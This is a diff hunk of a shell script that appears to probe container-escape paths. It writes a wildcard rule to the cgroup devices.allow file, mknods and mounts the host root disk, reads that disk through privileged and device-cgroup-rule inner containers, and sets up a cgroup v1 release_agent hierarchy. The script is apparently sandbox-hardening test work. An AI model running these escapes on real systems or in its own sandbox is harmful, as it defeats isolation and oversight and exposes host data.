@@ -16,7 +16,7 @@ DEV=$(awk '$5=="/root"{print $3}' /proc/self/mountinfo | head -n1); MAJ=${DEV%:*
 try devices-allow sh -c 'echo "a *:* rwm" > /sys/fs/cgroup/devices/devices.allow'
 try mknod-host-disk sh -c "mknod $W/disk b $MAJ $MIN && mkdir -p $W/m && mount -t ext4 $W/disk $W/m && ls $W/m"
 try mount-host-disk-inner docker run --rm --privileged lean-labs/toolbox sh -c "mknod /disk b $MAJ $MIN && mount /disk /mnt && ls /mnt"
-try device-flag-inner docker run --rm --device /dev/vda:/dev/xda lean-labs/toolbox true
+try device-rule-inner docker run --rm --device-cgroup-rule "b $MAJ:* rwm" lean-labs/toolbox sh -c "mknod /disk b $MAJ $MIN && head -c 512 /disk | od | head -n 1"
 
 # release_agent: a new cgroup v1 hierarchy (named or not), from the shell and from a privileged inner container.
 try named-hierarchy sh -c "mkdir -p $W/cg && mount -t cgroup -o none,name=ll-escape cgroup $W/cg"
